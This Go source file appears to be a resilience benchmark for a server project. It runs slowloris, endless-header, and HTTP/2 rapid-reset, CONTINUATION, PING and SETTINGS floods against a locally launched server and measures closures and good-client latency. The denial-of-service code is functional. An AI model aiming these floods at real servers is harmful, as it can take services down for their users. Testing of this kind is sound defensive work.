package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/serin-ml/serin/internal/load"
)

const (
	lorises   = 5000
	floodRate = 500
	floodTime = 8 * time.Second
	flooding  = 4 // connections of h2 at once
)

// attack is what hostile clients do, until stop is closed. It counts what the server has closed, and how long that took at most.
type attack struct {
	name string
	run  func(ctx context.Context, address string, seen *closures) error
}

// closures are connections that a server has closed.
type closures struct {
	opened, closed atomic.Int64
	mu             sync.Mutex
	took           []float64 // seconds, from the connection's beginning
}

func (c *closures) add(began time.Time) {
	c.closed.Add(1)
	c.mu.Lock()
	defer c.mu.Unlock()
	c.took = append(c.took, time.Since(began).Seconds())
}

// flooded measures what good clients see of clients that are slow on purpose, and of floods.
func flooded(ctx context.Context, dir string) (err error) {
	u, err := launchUpstream(ctx, "ok")
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, u.stop()) }()
	s, err := launchConfigured(ctx, dir, onAnyPort+fmt.Sprintf("services: [{name: movies, path: /, timeout: 10s, upstream: \"http://%s\"}]\n", u.http))
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, s.stop()) }()
	o := load.Options{URL: "http://" + s.http + "/", Rate: floodRate, Duration: floodTime, WarmUp: 500 * time.Millisecond, MaxLag: time.Hour}
	fmt.Printf("\n### Hostile clients, beside %d good requests a second\n\n", floodRate)
	sink, err := launchUpstream(ctx, sinkKind)
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, sink.stop()) }()
	fmt.Println("| what | connections | closed by the server | after, at most | good requests failed | good p99 | to the p99 without | to the p99 beside | to reach |\n|---|---|---|---|---|---|---|---|---|")
	for _, a := range []attack{
		{fmt.Sprintf("%d connections, a byte of a header each second", lorises), slowLoris},
		{"headers without end", headersWithoutEnd},
		{"h2: streams that are reset at once", func(ctx context.Context, address string, c *closures) error {
			return floodH2(ctx, address, c, rapidReset)
		}},
		{"h2: CONTINUATION without end", func(ctx context.Context, address string, c *closures) error {
			return floodH2(ctx, address, c, continuation)
		}},
		{"h2: PING", func(ctx context.Context, address string, c *closures) error { return floodH2(ctx, address, c, pings) }},
		{"h2: SETTINGS", func(ctx context.Context, address string, c *closures) error {
			return floodH2(ctx, address, c, settings)
		}},
	} {
		fmt.Fprintf(os.Stderr, "bench: %s\n", a.name)
		without, err := load.Run(ctx, o)
		if err != nil {
			return err
		}
		beside, err := a.beside(ctx, sink.http, o, &closures{})
		if err != nil {
			return err
		}
		seen := &closures{}
		with, err := a.beside(ctx, s.http, o, seen)
		if err != nil {
			return err
		}
		if with.Failed > 0 {
			fmt.Fprintf(os.Stderr, "bench: failed: %s\n", problems(with.Problems))
		}
		longest := 0.0
		if len(seen.took) > 0 {
			longest = slices.Max(seen.took)
		}
		p99 := with.Latency.P99.Seconds()
		r := p99 / without.Latency.P99.Seconds()
		fmt.Printf("| %s | %d | %d | %s | %d | %s | %.2f | %.2f | closed within 6 s, %s; p99 ≤ 1.50, %s |\n", a.name, seen.opened.Load(), seen.closed.Load(), duration(max(longest, 1e-9)),
			with.Failed, duration(p99), r, p99/beside.Latency.P99.Seconds(), met(seen.closed.Load() > 0 && longest <= 6), met(r <= 1.5 && with.Failed == 0))
	}
	fmt.Println("\n\"Beside\" is the same attack on a server that reads and drops what it gets: those who attack take processors too, and here they are the same ones.")
	return nil
}

// beside loads while an address is attacked.
func (a *attack) beside(ctx context.Context, address string, o load.Options, seen *closures) (*load.Report, error) {
	attacking, stop := context.WithCancel(ctx)
	ended := make(chan error, 1)
	go func() { ended <- a.run(attacking, address, seen) }()
	report, err := load.Run(ctx, o)
	stop()
	if err = errors.Join(err, <-ended); err != nil {
		return nil, fmt.Errorf("%s: %w", a.name, err)
	}
	return report, nil
}

// slowLoris opens many connections and sends a byte of a header over each once a second. The server has five seconds for it.
func slowLoris(ctx context.Context, address string, c *closures) error {
	var all sync.WaitGroup
	defer all.Wait()
	for i := range lorises {
		if ctx.Err() != nil {
			return nil
		}
		conn, err := openKept(ctx, address, i)
		if err != nil {
			return err
		}
		began := time.Now()
		c.opened.Add(1)
		if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "); err != nil {
			return err
		}
		all.Go(func() {
			defer conn.drop()
			var b [1]byte
			for ctx.Err() == nil {
				_ = conn.SetReadDeadline(time.Now().Add(time.Second))
				if _, err := conn.Read(b[:]); errors.Is(err, os.ErrDeadlineExceeded) {
					_, _ = io.WriteString(conn, "x")
					continue
				}
				c.add(began)
				return
			}
		})
	}
	return nil
}

// headersWithoutEnd sends headers as fast as they are taken, over one connection after the other.
func headersWithoutEnd(ctx context.Context, address string, c *closures) error {
	field := []byte("X-Y: 0123456789012345678901234567890123456789\r\n")
	return again(ctx, address, c, func(conn net.Conn) {
		if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: a\r\n"); err != nil {
			return
		}
		for piece := slices.Repeat(field, 100); ; {
			if _, err := conn.Write(piece); err != nil {
				return
			}
		}
	})
}

// again attacks over a few connections at once, and over another when the server has closed one, a few times a second.
func again(ctx context.Context, address string, c *closures, one func(net.Conn)) error {
	var all sync.WaitGroup
	defer all.Wait()
	for range flooding {
		all.Go(func() {
			for ctx.Err() == nil {
				conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
				if err != nil {
					return
				}
				began := time.Now()
				c.opened.Add(1)
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				read := make(chan struct{})
				go func() { defer close(read); _, _ = io.Copy(io.Discard, conn); conn.Close() }()
				one(conn)
				<-read
				if stop() {
					c.add(began)
				}
				select {
				case <-ctx.Done():
				case <-time.After(200 * time.Millisecond):
				}
			}
		})
	}
	return nil
}

// frame appends a frame of h2 (RFC 9113, section 4.1).
func frame(b []byte, kind, flags byte, stream uint32, payload string) []byte {
	b = append(b, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

const (
	headersFrame, resetFrame, settingsFrame, pingFrame, continuationFrame = 1, 3, 4, 6, 9
	// request is :method GET, :scheme http, :path / and :authority a, as HPACK has them.
	request = "\x82\x86\x84\x41\x01a"
)

// floodH2 sends frames as fast as they are taken, after what a client of h2 begins with.
func floodH2(ctx context.Context, address string, c *closures, frames func(n uint32) []byte) error {
	return again(ctx, address, c, func(conn net.Conn) {
		begin := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settingsFrame, 0, 0, "")
		if _, err := conn.Write(begin); err != nil {
			return
		}
		for n := uint32(0); ; {
			var piece []byte
			for len(piece) < 8<<10 {
				piece = append(piece, frames(n)...)
				n++
			}
			if _, err := conn.Write(piece); err != nil {
				return
			}
		}
	})
}

func rapidReset(n uint32) []byte {
	b := frame(nil, headersFrame, 5, 2*n+1, request) // END_STREAM, END_HEADERS
	return frame(b, resetFrame, 0, 2*n+1, "\x00\x00\x00\x08")
}

func continuation(n uint32) []byte {
	if n == 0 {
		return frame(nil, headersFrame, 1, 1, request)
	}
	return frame(nil, continuationFrame, 0, 1, "\x40\x01a\x01b")
}

func pings(uint32) []byte { return frame(nil, pingFrame, 0, 0, "01234567") }

func settings(uint32) []byte { return frame(nil, settingsFrame, 0, 0, "") }
